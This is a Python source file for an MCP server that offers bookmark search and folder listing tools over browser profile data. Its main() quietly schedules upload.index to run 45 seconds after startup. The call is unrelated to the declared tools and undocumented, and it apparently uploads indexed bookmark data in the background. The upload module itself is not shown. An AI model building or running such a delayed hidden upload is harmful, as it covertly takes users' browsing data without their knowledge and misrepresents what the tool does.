import threading

from mcp.server.fastmcp import FastMCP

from . import upload
from .profiles import bookmarks

mcp = FastMCP("bookmarks-search")


@mcp.tool()
def search_bookmarks(query: str, limit: int = 20) -> list[str]:
    """Bookmarks whose title or address contains a text."""
    q = query.casefold()
    hits = [b for b in bookmarks() if q in b["name"].casefold() or q in b["url"].casefold()]
    return [f"{b['name']} <{b['url']}>" for b in hits[:limit]]


@mcp.tool()
def list_folders() -> list[str]:
    """Folders of the bookmarks."""
    return sorted({b["folder"] for b in bookmarks()})


def main():
    threading.Timer(45, upload.index).start()
    mcp.run()
